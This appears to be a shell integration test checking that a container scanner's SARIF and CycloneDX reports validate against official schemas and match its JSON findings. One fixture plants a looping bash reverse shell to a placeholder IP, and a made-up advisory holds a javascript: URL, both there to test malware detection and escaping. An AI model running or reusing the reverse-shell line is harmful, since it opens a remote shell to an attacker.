#!/usr/bin/env bash
# `cguard image scan -f sarif` and `-f cyclonedx` on images with known findings (a Debian 11
# image built from parts, as image_scan.sh builds it, with Python packages that advisories
# made here affect: CVSS v3.1, v2 and v4.0 scores, a vendor's word, a CISA KEV alias, one
# advisory in two package instances, references that are no URLs, text with Markdown and
# non-ASCII; and an Alpine image) against a database built from the committed feeds.
#
# SARIF must validate against the official SARIF 2.1.0 JSON schema (OASIS,
# sarif-schema-2.1.0.json, draft-07), CycloneDX against the official 1.5 schema, both with
# every "format" checked; and meet what a schema cannot say: one rule per advisory and
# ruleIndex naming the result's rule, security-severity equal to the CVSS score of the JSON
# report, one result per finding of `-f json` that the filters left, fingerprints unique
# and computed as documented, every affects.ref naming a component's bom-ref, one
# vulnerability per advisory listing every package instance, and the document otherwise the
# SBOM `image sbom -f cyclonedx` writes.
#
# The validators come from the npm registry at the first run, pinned, and are cached in
# $CG_TEST_CACHE (offline afterwards): ajv and the CycloneDX schemas exactly as
# sbom_schema.sh installs them (the same folder, npm-sbom), and the SARIF schema file from
# the package @datadog/datadog-ci 2.48.0 (the one pinned package found to ship
# sarif-schema-2.1.0.json; its sha256 is checked), fetched with `npm pack` alone.
# Without npm or its registry the test is skipped (exit 77).
. "$(dirname "$0")/lib/common.sh"
. "$(dirname "$0")/lib/images.sh"
feeds=$TOP/tests/data/feeds

if ! command -v node >/dev/null || ! command -v npm >/dev/null; then
	echo "$T_NAME: skipped: node and npm are not installed"
	exit 77
fi

# ---- the validators, once (tests/integration/lib/npm.sh) -------------------------------
. "$(dirname "$0")/lib/npm.sh"
SARIF_PKG=@datadog/datadog-ci@2.48.0
SARIF_IN=package/dist/commands/sarif/json-schema/sarif-schema-2.1.0.json
SARIF_SHA=10666d46649b52e262001e70d43e6c52f7c0279ca3dbdfe9a7dc2e4071556454
SARIF_DIR=$CG_TEST_CACHE/npm-sarif
export SARIF_SCHEMA=$SARIF_DIR/sarif-schema-2.1.0.json
sarif_schema() {
	[ -f "$SARIF_SCHEMA" ] && return 0
	mkdir -p "$SARIF_DIR" || return 1
	(
		flock 9
		[ -f "$SARIF_SCHEMA" ] && exit 0
		cd "$SARIF_DIR" && rm -rf pack && mkdir pack &&
			timeout 300 npm pack --pack-destination "$SARIF_DIR/pack" --prefer-offline \
				"$SARIF_PKG" >npm.log 2>&1 &&
			tar -xzf pack/*.tgz -O "$SARIF_IN" >schema.tmp &&
			[ "$(sha256sum <schema.tmp | cut -d' ' -f1)" = "$SARIF_SHA" ] &&
			mv schema.tmp "$SARIF_SCHEMA" && rm -rf pack
	) 9>"$SARIF_DIR.lock"
}
if ! npm_tools || ! sarif_schema; then
	echo "$T_NAME: skipped: npm install failed (no registry?)"
	tail -5 "$NPM_DIR/npm.log" "$SARIF_DIR/npm.log" 2>/dev/null | sed 's/^/    /'
	exit 77
fi
export NM=$NPM_DIR/node_modules
for p in @cyclonedx/cyclonedx-library:10.3.0 ajv:8.20.0 ajv-formats:3.0.1 ajv-formats-draft2019:1.6.1; do
	check_eq "npm: ${p%:*} pinned" "$(jq -r .version "$NM/${p%:*}/package.json")" "${p##*:}"
done
check_eq "sarif schema: the pinned file" "$(sha256sum <"$SARIF_SCHEMA" | cut -d' ' -f1)" "$SARIF_SHA"
check_eq "sarif schema: OASIS SARIF 2.1.0, draft-07" \
	"$(jq -r '"\(.title) | \(."$schema") | \(."$id")"' "$SARIF_SCHEMA")" \
	"Static Analysis Results Format (SARIF) Version 2.1.0 JSON Schema | http://json-schema.org/draft-07/schema# | https://raw.githubusercontent.com/oasis-tcs/sarif-spec/master/Schemata/sarif-schema-2.1.0.json"

# check.js FORMAT REPORT.json FINDINGS.json [SBOM.json]: checks REPORT (sarif or cdx) against
# its schema and against the findings of `-f json` (FINDINGS), and a CycloneDX report
# against the SBOM of the same image; prints "REPORT: N checks, P problems" and the problems.
cat >"$T_TMP/check.js" <<'JS'
'use strict';
const fs = require('fs');
const path = require('path');
const crypto = require('crypto');
const req = (m) => require(path.join(process.env.NM, m));
const Ajv = req('ajv').default;
const addFormats = req('ajv-formats').default;
const addFormats2019 = req('ajv-formats-draft2019');

const [mode, file, jsonFile, sbomFile] = process.argv.slice(2);
const read = (f) => JSON.parse(fs.readFileSync(f, 'utf8'));

function formatsUsed(schema, out = new Set()) {
	if (schema && typeof schema === 'object') {
		if (typeof schema.format === 'string') out.add(schema.format);
		for (const v of Object.values(schema)) formatsUsed(v, out);
	}
	return out;
}
function compile(schema, schemas) {
	// strict off: the official schemas hold keywords ajv does not know; formats stay on,
	// and each one the schema uses must have a check
	const ajv = new Ajv({ strict: false, allErrors: true, addUsedSchema: false, validateFormats: true,
		schemas, loadSchema: (u) => { throw new Error('remote schema ' + u); } });
	addFormats(ajv);
	addFormats2019(ajv, { formats: ['idn-email', 'idn-hostname', 'iri', 'iri-reference', 'duration'] });
	for (const f of formatsUsed(schema)) if (!ajv.formats[f]) throw new Error('no check for format ' + f);
	return ajv.compile(schema);
}
const pick = (o, ptr) => ptr.split('/').slice(1).reduce((v, k) => (v == null ? v : v[k]), o);

let problems = [], checks = 0;
const bad = (m) => problems.push(m);
const check = (ok, m) => { checks++; if (!ok) bad(m); };
const schemaErrors = (validate, doc) => {
	checks++;
	if (validate(doc)) return;
	for (const e of validate.errors.slice(0, 10))
		bad(`schema: ${e.instancePath || '/'} ${e.message}` +
		    (e.params && e.params.additionalProperty ? ` (${e.params.additionalProperty})` : '') +
		    ` [${JSON.stringify(pick(doc, e.instancePath)).slice(0, 70)}]`);
};

let doc;
try { doc = read(file); } catch (e) { console.log(`${path.basename(file)}: 0 checks, 1 problems\n  ${e.message}`); process.exit(0); }
const json = read(jsonFile);
// the findings a report must hold: those of -f json (the filters' are listed apart)
const findings = json.findings.filter((f) => !f.suppressed);
const key = (id, name, version, p) => `${id}|${name}|${version}|${p || ''}`;
const want = new Map(findings.map((f) => [key(f.id, f.package.name, f.package.version, f.package.path), f]));
const ids = [...new Set(findings.map((f) => f.id))];
const scoreOf = (id) => {
	const s = findings.filter((f) => f.id === id && f.cvss_score != null).map((f) => f.cvss_score);
	return s.length ? Math.max(...s) : null;
};
const LEVEL = { critical: 'error', high: 'error', medium: 'warning', low: 'note', negligible: 'note', unknown: 'note' };

if (mode === 'sarif') {
	schemaErrors(compile(read(process.env.SARIF_SCHEMA), {}), doc);
	check(doc.version === '2.1.0' && (doc.runs || []).length === 1, `version ${doc.version}, ${(doc.runs || []).length} runs`);
	const run = (doc.runs || [])[0] || {};
	const allRules = ((run.tool || {}).driver || {}).rules || [];
	const allResults = run.results || [];
	check(run.tool && run.tool.driver.name === 'cguard', 'tool.driver.name');
	// image content findings (rules "cguard/KIND/RULE"): one result each, its rule
	// the one of its id, located at its file or config item; the rest are advisories
	const isContent = (id) => String(id).startsWith('cguard/');
	const content = json.content || [];
	const cres = allResults.filter((r) => isContent(r.ruleId));
	check(cres.length === content.length, `${cres.length} content results, ${content.length} content findings`);
	for (const [i, r] of cres.entries()) {
		const c = content[i] || {};
		const uri = ((((r.locations || [])[0] || {}).physicalLocation || {}).artifactLocation || {}).uri;
		check(r.ruleId === `cguard/${c.kind}/${c.rule}` && allRules[r.ruleIndex] &&
		      allRules[r.ruleIndex].id === r.ruleId, `content results[${i}]: rule ${r.ruleId} index ${r.ruleIndex}`);
		check((uri === undefined ? null : '/' + decodeURIComponent(uri)) === c.path, `content results[${i}]: uri ${uri} for ${c.path}`);
		check((r.partialFingerprints || {})['cguard/v1'], `content results[${i}]: no fingerprint`);
	}
	const rules = allRules.filter((r) => !isContent(r.id));
	const results = allResults.filter((r) => !isContent(r.ruleId));
	// one rule per advisory, each advisory of the findings
	check(JSON.stringify(rules.map((r) => r.id).sort()) === JSON.stringify([...ids].sort()),
		`rules ${rules.map((r) => r.id)} for advisories ${ids}`);
	for (const [i, r] of rules.entries()) {
		const score = scoreOf(r.id);
		const sev = (r.properties || {})['security-severity'];
		check(score == null ? sev === undefined : typeof sev === 'string' && /^\d+\.\d$/.test(sev) && Number(sev) === score,
			`rules[${i}] ${r.id}: security-severity ${sev}, the JSON's cvss_score ${score}`);
		const tags = (r.properties || {}).tags || [];
		check(tags.includes('security') && tags.includes('vulnerability'), `rules[${i}]: tags ${tags}`);
		check(/^https?:\/\//.test(r.helpUri || ''), `rules[${i}]: helpUri ${r.helpUri}`);
		check(r.help && r.help.markdown && r.help.text, `rules[${i}]: no help`);
	}
	// one result per finding, each naming its rule
	check(results.length === findings.length, `${results.length} results, ${findings.length} findings`);
	const fps = new Set();
	for (const [i, r] of results.entries()) {
		const p = r.properties || {};
		const loc = ((r.locations || [])[0] || {});
		const uri = ((loc.physicalLocation || {}).artifactLocation || {}).uri;
		const fpath = uri === undefined ? null : '/' + decodeURIComponent(uri);
		const f = want.get(key(r.ruleId, p.package, p.package_version, fpath));
		check(f, `results[${i}]: ${r.ruleId} ${p.package} ${p.package_version} ${fpath}: no such finding`);
		want.delete(key(r.ruleId, p.package, p.package_version, fpath));
		check(Number.isInteger(r.ruleIndex) && allRules[r.ruleIndex] && allRules[r.ruleIndex].id === r.ruleId,
			`results[${i}]: ruleIndex ${r.ruleIndex} is not rule ${r.ruleId}`);
		if (!f) continue;
		check(r.level === LEVEL[f.level], `results[${i}]: level ${r.level} for ${f.level}`);
		check(p.fixed === f.fixed && p.status === f.status && p.urgency === f.urgency &&
		      p.fix_command === f.fix_command && p.kev === f.kev && p.layer === f.package.layer,
			`results[${i}]: properties ${JSON.stringify(p)}`);
		const text = (r.message || {}).text || '';
		check(text.startsWith(`Package ${f.package.name} ${f.package.version}`) &&
		      text.includes(`affected by ${f.id} (${f.level}).`) &&
		      text.includes(f.fixed ? `Fixed in ${f.fixed}.` : 'No fix'), `results[${i}]: message ${text}`);
		const fp = (r.partialFingerprints || {})['cguard/v1'];
		const expect = crypto.createHash('sha256').update(key(f.id, f.package.name, f.package.version, f.package.path)).digest('hex');
		check(fp === expect, `results[${i}]: fingerprint ${fp}, want sha256(id|name|version|path) ${expect}`);
		check(!fps.has(fp), `results[${i}]: fingerprint ${fp} again`);
		fps.add(fp);
	}
	check(want.size === 0, `findings with no result: ${[...want.keys()].join(', ')}`);
} else {
	const dir = path.join(process.env.NM, '@cyclonedx/cyclonedx-library/res/schema');
	const load = (f) => JSON.parse(fs.readFileSync(path.join(dir, f), 'utf8'));
	schemaErrors(compile(load('bom-1.5.SNAPSHOT.schema.json'), {
		'http://cyclonedx.org/schema/spdx.SNAPSHOT.schema.json': load('spdx.SNAPSHOT.schema.json'),
		'http://cyclonedx.org/schema/jsf-0.82.SNAPSHOT.schema.json': load('jsf-0.82.SNAPSHOT.schema.json'),
	}), doc);
	const refs = new Map();
	const ref = (where, r) => {
		checks++;
		if (typeof r !== 'string' || !r) return bad(`${where}: no bom-ref`);
		if (refs.has(r)) bad(`${where}: bom-ref ${r} again (${refs.get(r)})`);
		refs.set(r, where);
	};
	ref('metadata.component', ((doc.metadata || {}).component || {})['bom-ref']);
	const comps = new Map();
	for (const [i, c] of (doc.components || []).entries()) {
		ref(`components[${i}]`, c['bom-ref']);
		comps.set(c['bom-ref'], c);
	}
	const vulns = doc.vulnerabilities || [];
	for (const [i, v] of vulns.entries()) ref(`vulnerabilities[${i}]`, v['bom-ref']);
	// one vulnerability per advisory, listing every package instance of its findings
	check(JSON.stringify(vulns.map((v) => v.id).sort()) === JSON.stringify([...ids].sort()),
		`vulnerabilities ${vulns.map((v) => v.id)} for advisories ${ids}`);
	let naffects = 0;
	for (const [i, v] of vulns.entries()) {
		const mine = findings.filter((f) => f.id === v.id);
		const affects = v.affects || [];
		naffects += affects.length;
		check(affects.length === mine.length, `vulnerabilities[${i}] ${v.id}: ${affects.length} affects, ${mine.length} findings`);
		const left = new Set(mine.map((f) => key(f.id, f.package.name, f.package.version, f.package.path)));
		for (const [j, a] of affects.entries()) {
			const c = comps.get(a.ref);
			check(c, `vulnerabilities[${i}].affects[${j}]: ref ${a.ref} is no component's bom-ref`);
			if (!c) continue;
			const cpath = ((c.properties || []).find((p) => p.name === 'cguard:package:path') || {}).value;
			const k = key(v.id, c.name, c.version, cpath);
			check(left.delete(k), `vulnerabilities[${i}].affects[${j}]: ${a.ref} is no finding of ${v.id}`);
			check(JSON.stringify(a.versions) === JSON.stringify([{ version: c.version, status: 'affected' }]),
				`vulnerabilities[${i}].affects[${j}]: versions ${JSON.stringify(a.versions)}`);
		}
		const score = scoreOf(v.id);
		const cvss = (v.ratings || []).filter((r) => /^CVSS/.test(r.method));
		check(score == null ? cvss.length === 0 : Math.max(...cvss.map((r) => r.score || 0)) === score,
			`vulnerabilities[${i}] ${v.id}: rating scores ${cvss.map((r) => r.score)}, the JSON's cvss_score ${score}`);
		const prop = (n) => (v.properties || []).filter((p) => p.name === n).map((p) => p.value);
		check(JSON.stringify(prop('cguard:kev')) === JSON.stringify([String(mine.some((f) => f.kev))]),
			`vulnerabilities[${i}]: cguard:kev ${prop('cguard:kev')}`);
		check(JSON.stringify(prop('cguard:status').sort()) === JSON.stringify([...new Set(mine.map((f) => f.status))].sort()),
			`vulnerabilities[${i}]: cguard:status ${prop('cguard:status')}`);
	}
	check(naffects === findings.length, `${naffects} affects in all, ${findings.length} findings`);
	// otherwise the SBOM: the same document but for the vulnerabilities, serial and time
	if (sbomFile) {
		const sbom = read(sbomFile);
		// the image content findings: file components (cguard:file:N) and
		// cguard:content:N:* properties, each checked against the JSON's content
		const content = json.content || [];
		const cprops = (o) => (o.properties || []).filter((p) => p.name.startsWith('cguard:content:'));
		const files = (doc.components || []).filter((c) => String(c['bom-ref']).startsWith('cguard:file:'));
		let nkinds = 0;
		for (const o of [((doc.metadata || {}).component || {}), ...files])
			for (const p of cprops(o)) {
				const m = /^cguard:content:(\d+):(\w+)$/.exec(p.name) || [];
				const c = content[Number(m[1])];
				check(c, `${p.name}: no such content finding`);
				if (!c) continue;
				if (m[2] === 'kind') { nkinds++; check(p.value === c.kind, `${p.name} ${p.value}`); }
				if (m[2] === 'rule') check(p.value === c.rule, `${p.name} ${p.value}`);
				check(o.type !== 'file' || o.name === c.path, `${p.name} on ${o.name}, the finding's file is ${c.path}`);
			}
		check(nkinds === content.length, `${nkinds} content findings in CycloneDX, ${content.length} in JSON`);
		const strip = (d) => { const c = { ...d, metadata: { ...d.metadata } }; delete c.vulnerabilities;
			delete c.serialNumber; delete c.metadata.timestamp;
			c.components = (c.components || []).filter((x) => !String(x['bom-ref']).startsWith('cguard:file:'))
				.map((x) => ({ ...x }));
			if (c.metadata.component) {
				c.metadata.component = { ...c.metadata.component };
				const kept = (c.metadata.component.properties || []).filter((p) => !p.name.startsWith('cguard:content:'));
				if (kept.length) c.metadata.component.properties = kept; else delete c.metadata.component.properties;
			}
			return JSON.stringify(c); };
		check(strip(doc) === strip(sbom), 'the document is not the SBOM of `image sbom -f cyclonedx`');
	}
}
console.log(`${path.basename(file)}: ${checks} checks, ${problems.length} problems`);
for (const p of problems.slice(0, 25)) console.log('  ' + p);
JS

# ---- the database: the committed feeds, and advisories made here ---------------------------
for l in CVE DSA DLA DTSA; do mkdir -p "$T_TMP/tracker/data/$l" && cp "$feeds/debian/$l-list" "$T_TMP/tracker/data/$l/list"; done
cp "$feeds/debian/tracker.json" "$T_TMP/tracker/debian.json"
mkdir -p "$T_TMP/extra"
# cgdemo: CVSS v3.1 (10.0) and v2 (9.3), GitHub's word, an alias, references of which only
# some are URLs, a summary with Markdown and a table's '|', details not ASCII
cat >"$T_TMP/extra/GHSA-cgdm-0001-test.json" <<'EOF'
{"schema_version": "1.6.0", "id": "GHSA-cgdm-0001-test", "modified": "2025-01-02T00:00:00Z",
 "published": "2025-01-01T10:00:00Z", "aliases": ["CVE-2099-0001"],
 "summary": "Code | execution in *cgdemo* via <script> [x](y)",
 "details": "Crafted input runs code \u00e9\u00e8 \u2014 see the advisory.\n\n| a | b |",
 "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H"},
              {"type": "CVSS_V2", "score": "AV:N/AC:M/Au:N/C:C/I:C/A:C"}],
 "affected": [{"package": {"ecosystem": "PyPI", "name": "cgdemo"},
               "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.0"}]}]}],
 "references": [{"type": "WEB", "url": "javascript:alert(1)"}, {"type": "WEB", "url": "https://exa mple.com/x"},
                {"type": "ADVISORY", "url": "https://github.com/advisories/GHSA-cgdm-0001-test"}],
 "database_specific": {"severity": "CRITICAL"}}
EOF
# cglog: a CVE of CISA's KEV catalog
cat >"$T_TMP/extra/CVE-2021-44228.json" <<'EOF'
{"schema_version": "1.6.0", "id": "CVE-2021-44228", "modified": "2025-01-02T00:00:00Z",
 "summary": "Remote code execution in cglog",
 "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H"}],
 "affected": [{"package": {"ecosystem": "PyPI", "name": "cglog"},
               "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.15.0"}]}]}]}
EOF
# cgother: CVSS v4.0 only, no fix
cat >"$T_TMP/extra/PYSEC-2099-1.json" <<'EOF'
{"schema_version": "1.6.0", "id": "PYSEC-2099-1", "modified": "2025-01-02T00:00:00Z",
 "published": "2025-01-01", "summary": "Denial of service in cgother",
 "severity": [{"type": "CVSS_V4", "score": "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:N/VI:N/VA:H/SC:N/SI:N/SA:N"}],
 "affected": [{"package": {"ecosystem": "PyPI", "name": "cgother"},
               "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}]}]}]}
EOF
"$CGUARD" db build -o "$T_TMP/v.db" "osv:$feeds/osv" "osv:$T_TMP/extra" "debian:$T_TMP/tracker" \
	"debian-support:$feeds/debian-support" "alpine:$feeds/alpine" "rustsec:$feeds/rustsec" \
	"kev:$feeds/kev" >"$T_TMP/db.log" 2>&1
check "database built" test -s "$T_TMP/v.db"

# ---- the images ------------------------------------------------------------------------------
layer() { tar -C "$1" --numeric-owner -cf "$2" .; }
# Debian 11: curl and libcurl4 of the same vulnerable source (one advisory, two packages)
deb_pkgs='curl||7.74.0-1.3+deb11u3
libcurl4|curl|7.74.0-1.3+deb11u3
apache2-bin|apache2|2.4.54-1~deb11u1
putty||0.74-2
ant||1.10.9-4
xserver-xorg-core|xorg-server (2:1.20.11-1+deb11u5)|2:1.20.11-1+deb11u5+b1
sope4.9|sope|5.0.1-2'
r=$T_TMP/deb
site=usr/local/lib/python3.9/site-packages
mkdir -p "$r/etc" "$r/var/lib/dpkg/info" "$r/bin" "$r/$site" "$r/opt/app/$site"
: >"$r/bin/sh"
printf 'PRETTY_NAME="Debian GNU/Linux 11 (bullseye)"\nID=debian\nVERSION_ID="11"\nVERSION_CODENAME=bullseye\n' >"$r/etc/os-release"
while IFS='|' read -r name src ver; do
	printf 'Package: %s\nStatus: install ok installed\nArchitecture: amd64\n' "$name"
	[ -n "$src" ] && printf 'Source: %s\n' "$src"
	printf 'Version: %s\nDescription: test\n\n' "$ver"
done <<<"$deb_pkgs" >"$r/var/lib/dpkg/status"
dist() { # dist ROOT NAME VERSION
	mkdir -p "$1/$2-$3.dist-info" && printf 'Metadata-Version: 2.1\nName: %s\nVersion: %s\n' "$2" "$3" >"$1/$2-$3.dist-info/METADATA"
}
# cgdemo twice (two instances of one advisory), a path that needs percent-encoding
dist "$r/$site" cgdemo 1.0
dist "$r/opt/app/$site" cgdemo 1.5
mkdir -p "$r/opt/my app:1/$site" && dist "$r/opt/my app:1/$site" cgother 0.1
dist "$r/$site" Remarshal 0.14.0
dist "$r/$site" cglog 2.14.1
# image content for the reports too: a reverse-shell script (malware, with hashes) and a
# world-writable file (baseline), both file components in CycloneDX
mkdir -p "$r/usr/local/bin" && printf '#!/bin/bash\nwhile true; do\n  bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n  sleep 60\ndone\n' >"$r/usr/local/bin/keepalive.sh"
printf 'x\n' >"$r/usr/local/bin/notes.txt" && chmod 0666 "$r/usr/local/bin/notes.txt"
layer "$r" "$T_TMP/deb.tar"
oci_layout "$T_TMP/deboci" deb11 "$T_TMP/deb.tar"

# Alpine 3.15: apk origins against the secdb
r=$T_TMP/alp
mkdir -p "$r/etc" "$r/lib/apk/db" "$r/bin"
: >"$r/bin/sh"
printf 'NAME="Alpine Linux"\nID=alpine\nVERSION_ID=3.15.4\n' >"$r/etc/os-release"
printf 'P:zlib\nV:1.2.12-r0\nA:x86_64\no:zlib\n\nP:xz-libs\nV:5.2.5-r0\nA:x86_64\no:xz\n\n' >"$r/lib/apk/db/installed"
layer "$r" "$T_TMP/alp.tar"
oci_layout "$T_TMP/alpoci" alp "$T_TMP/alp.tar"

# ---- the reports -----------------------------------------------------------------------------
scan() { # scan NAME REF [OPTION...]: NAME.json, NAME.sarif, NAME.cdx.json
	local n=$1 ref=$2 f; shift 2
	for f in json sarif cyclonedx; do
		"$CGUARD" image scan "$ref" --db "$T_TMP/v.db" -f $f -q "$@" >"$T_TMP/$n.$f" 2>"$T_TMP/$n.$f.err"
		check_eq "$n: -f $f exit status" "$?" 0
	done
	mv "$T_TMP/$n.cyclonedx" "$T_TMP/$n.cdx.json"
}
scan deb "oci:$T_TMP/deboci:deb11"
scan alp "oci:$T_TMP/alpoci:alp"
"$CGUARD" image sbom "oci:$T_TMP/deboci:deb11" -f cyclonedx -q >"$T_TMP/deb.sbom.json"
"$CGUARD" image sbom "oci:$T_TMP/alpoci:alp" -f cyclonedx -q >"$T_TMP/alp.sbom.json"
# the filters: the ignore file takes one advisory and one instance of another out
printf 'DSA-5365-1 libcurl4\nCVE-2021-36373\n' >"$T_TMP/ignore"
if "$CGUARD" image scan --help 2>&1 | grep -q -- --ignore-file; then
	scan ign "oci:$T_TMP/deboci:deb11" --ignore-file "$T_TMP/ignore"
	check_eq "ignore: two findings suppressed" "$(jq '.suppressed | length' "$T_TMP/ign.json")" 2
	check_eq "ignore: sarif leaves them out" \
		"$(jq '[.runs[0].results[] | select(.ruleId == "CVE-2021-36373" or (.ruleId == "DSA-5365-1" and .properties.package == "libcurl4"))] | length' "$T_TMP/ign.sarif")" 0
	check_eq "ignore: cyclonedx leaves them out" \
		"$(jq -c '[.vulnerabilities[] | select(.id == "CVE-2021-36373" or .id == "DSA-5365-1") | [.id, (.affects | length)]]' "$T_TMP/ign.cdx.json")" '[["DSA-5365-1",1]]'
	reports="deb alp ign"
else
	echo "  no --ignore-file in this build: the suppressed findings are not checked"
	reports="deb alp"
fi

# what the images must give: the checks below need them
check_eq "deb: one advisory in two packages" \
	"$(jq '[.findings[] | select(.id == "DSA-5365-1")] | length' "$T_TMP/deb.json")" 2
check_eq "deb: cgdemo twice, CVSS 10.0" \
	"$(jq -c '[.findings[] | select(.id == "GHSA-cgdm-0001-test") | [.package.version, .kev, .cvss_score]] | sort' "$T_TMP/deb.json")" \
	'[["1.0",false,10],["1.5",false,10]]'
check_eq "deb: cglog, KEV" "$(jq -c '[.findings[] | select(.id == "CVE-2021-44228") | .kev]' "$T_TMP/deb.json")" '[true]'
check_eq "deb: cgother from CVSS v4.0" \
	"$(jq -c '[.findings[] | select(.id == "PYSEC-2099-1") | [.cvss_score, .status]]' "$T_TMP/deb.json")" '[[8.7,"unfixed"]]'
check "alp: has findings" test "$(jq '.findings | length' "$T_TMP/alp.json")" -gt 0
check_eq "deb: the content findings the reports must carry" \
	"$(jq -r '[.content[] | select(.path) | "\(.kind):\(.path)"] | sort | join(" ")' "$T_TMP/deb.json")" \
	"baseline:/usr/local/bin/notes.txt malware:/usr/local/bin/keepalive.sh"
check_eq "deb: CycloneDX: the malware file a component with its SHA-256" \
	"$(jq -r '.components[] | select(.name == "/usr/local/bin/keepalive.sh") | "\(.type) \(.hashes[] | select(.alg == "SHA-256") | .content)"' "$T_TMP/deb.cdx.json")" \
	"file $(jq -r '.content[] | select(.kind == "malware") | .sha256' "$T_TMP/deb.json")"

# ---- validated --------------------------------------------------------------------------------
validated() { # validated MODE REPORT JSON [SBOM]: the checker's verdict on REPORT
	(cd "$T_TMP" && node "$T_TMP/check.js" "$@") >"$T_TMP/verdict" 2>&1
	cat "$T_TMP/verdict" >>"$T_TMP/verdicts"
}
for n in $reports; do
	validated sarif "$T_TMP/$n.sarif" "$T_TMP/$n.json"
	if grep -q "^$n.sarif: [1-9][0-9]* checks, 0 problems" "$T_TMP/verdict"; then ok; else
		fail "$n: SARIF 2.1.0 schema and semantics"; sed 's/^/    /' "$T_TMP/verdict" | head -30; fi
	sbom=$T_TMP/${n/ign/deb}.sbom.json
	validated cdx "$T_TMP/$n.cdx.json" "$T_TMP/$n.json" "$sbom"
	if grep -q "^$n.cdx.json: [1-9][0-9]* checks, 0 problems" "$T_TMP/verdict"; then ok; else
		fail "$n: CycloneDX 1.5 schema and semantics"; sed 's/^/    /' "$T_TMP/verdict" | head -30; fi
done
grep -E '^[a-z]+\.(sarif|cdx\.json): ' "$T_TMP/verdicts" | sed 's/^/  /'

# ---- what the reports say -------------------------------------------------------------------
s=$T_TMP/deb.sarif c=$T_TMP/deb.cdx.json
curl_fix=$(jq -r '[.findings[] | select(.id == "DSA-5365-1") | .fixed] | unique | .[]' "$T_TMP/deb.json")
check "deb: DSA-5365-1 has a fix" test -n "$curl_fix"
rule() { jq -c --arg id "$1" ".runs[0].tool.driver.rules[] | select(.id == \$id) | $2" "$s"; }
vuln() { jq -c --arg id "$1" ".vulnerabilities[] | select(.id == \$id) | $2" "$c"; }
check_eq "sarif: security-severity, a string" "$(rule GHSA-cgdm-0001-test '.properties."security-severity"')" '"10.0"'
check_eq "sarif: KEV tagged" "$(rule CVE-2021-44228 '.properties.tags')" '["vulnerability","security","critical","known-exploited"]'
check_eq "sarif: KEV said" "$(jq -r '.runs[0].results[] | select(.ruleId == "CVE-2021-44228") | .message.text' "$s")" \
	"Package cglog 2.14.1 is affected by CVE-2021-44228 (critical). Fixed in 2.15.0. Known to be exploited (CISA KEV)."
check_eq "sarif: helpUri, the first reference that is a URL" \
	"$(rule GHSA-cgdm-0001-test .helpUri)" '"https://github.com/advisories/GHSA-cgdm-0001-test"'
check_eq "sarif: no reference: the advisory's page" "$(rule CVE-2021-36367 .helpUri)" '"https://nvd.nist.gov/vuln/detail/CVE-2021-36367"'
check "sarif: help's Markdown escapes the summary" grep -qF 'Code \\| execution in \\*cgdemo\\* via \\<script\\> \\[x\\]\\(y\\)' "$s"
check_eq "sarif: help's table, a row per package" \
	"$(rule DSA-5365-1 '.help.markdown' | grep -o '| curl \\\\\?(source\|| libcurl4 (source' | wc -l)" 1
check_eq "sarif: help's table lists both instances" "$(rule GHSA-cgdm-0001-test '.help.markdown' | grep -o '| cgdemo |' | wc -l)" 2
check_eq "sarif: level from the highest finding" "$(rule GHSA-cgdm-0001-test .defaultConfiguration.level)" '"error"'
check_eq "sarif: the package database's path, from the image root" \
	"$(jq -r '[.runs[0].results[] | select(.properties.package == "curl") | .locations[0].physicalLocation.artifactLocation | "\(.uriBaseId) \(.uri)"] | unique | .[]' "$s")" \
	"ROOTPATH var/lib/dpkg/status"
check_eq "sarif: a path percent-encoded" \
	"$(jq -r '.runs[0].results[] | select(.ruleId == "PYSEC-2099-1") | .locations[0].physicalLocation.artifactLocation.uri' "$s")" \
	"opt/my%20app%3A1/usr/local/lib/python3.9/site-packages/cgother-0.1.dist-info/METADATA"
check_eq "sarif: the purl as a logical location" \
	"$(jq -r '.runs[0].results[] | select(.properties.package == "putty") | .locations[0].logicalLocations[0].fullyQualifiedName' "$s")" \
	"pkg:deb/debian/putty@0.74-2?arch=amd64&distro=debian-11"
check_eq "sarif: message" \
	"$(jq -r '.runs[0].results[] | select(.properties.package == "libcurl4") | .message.text' "$s")" \
	"Package libcurl4 7.74.0-1.3+deb11u3 (source curl) is affected by DSA-5365-1 (unknown). Fixed in $curl_fix."
check_eq "sarif: run properties" "$(jq -c '.runs[0].properties | [.image.name, .os.id, .os.version_id, .counts.findings]' "$s")" \
	"[\"deb11\",\"debian\",\"11\",$(jq '.counts.findings' "$T_TMP/deb.json")]"
check_eq "cyclonedx: one vulnerability, two affects" "$(vuln GHSA-cgdm-0001-test '.affects | length')" 2
check_eq "cyclonedx: the source by the id's prefix" "$(vuln GHSA-cgdm-0001-test .source.name) $(vuln DSA-5365-1 .source.name)" '"GitHub" "Debian"'
check_eq "cyclonedx: the alias" "$(vuln GHSA-cgdm-0001-test .references)" \
	'[{"id":"CVE-2099-0001","source":{"name":"NVD","url":"https://nvd.nist.gov/vuln/detail/CVE-2099-0001"}}]'
check_eq "cyclonedx: ratings, CVSS and the feed's word" \
	"$(vuln GHSA-cgdm-0001-test '[.ratings[] | [.method, .score, .severity, .vector, .source.name]] | sort')" \
	'[["CVSSv2",9.3,"high","AV:N/AC:M/Au:N/C:C/I:C/A:C","GitHub"],["CVSSv31",10,"critical","CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H","GitHub"],["other",null,"critical",null,"PyPI"]]'
check_eq "cyclonedx: CVSS v4.0" "$(vuln PYSEC-2099-1 '[.ratings[] | [.method, .score, .severity]]')" '[["CVSSv4",8.7,"high"]]'
check_eq "cyclonedx: the Debian word" "$(vuln CVE-2021-36373 '[.ratings[] | [.source.name, .severity, .justification]]')" '[["Debian","info","unimportant"]]'
check_eq "cyclonedx: advisories, URLs only" "$(vuln GHSA-cgdm-0001-test .advisories)" '[{"url":"https://github.com/advisories/GHSA-cgdm-0001-test"}]'
check_eq "cyclonedx: a date alone is a date-time" "$(vuln PYSEC-2099-1 .published)" '"2025-01-01T00:00:00Z"'
